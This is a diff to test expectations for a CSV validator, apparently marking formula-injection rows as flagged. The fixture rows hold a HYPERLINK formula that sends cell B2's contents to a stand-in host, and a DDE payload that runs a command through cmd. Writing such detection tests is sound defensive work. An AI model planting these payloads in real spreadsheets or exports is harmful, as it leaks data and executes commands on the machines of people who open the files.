@@ -259,7 +259,11 @@ export const outcomes: readonly Outcome[] = [
   {
     file: 'formula-injection.csv',
     what: 'cells that a spreadsheet would compute',
-    judged: { 4: ['OCCUPATION_UNKNOWN occupation'] },
+    judged: {
+      2: ['TEXT_FORMULA name'],
+      3: ['TEXT_FORMULA name'],
+      4: ['TEXT_FORMULA name', 'OCCUPATION_UNKNOWN occupation'],
+    },
     rows: {
       2: { ...AGUS, name: '=HYPERLINK("http://example.invalid/?"&B2,"Agus")' },
       3: { ...SITI, name: "+cmd|' /C calc'!A0" },
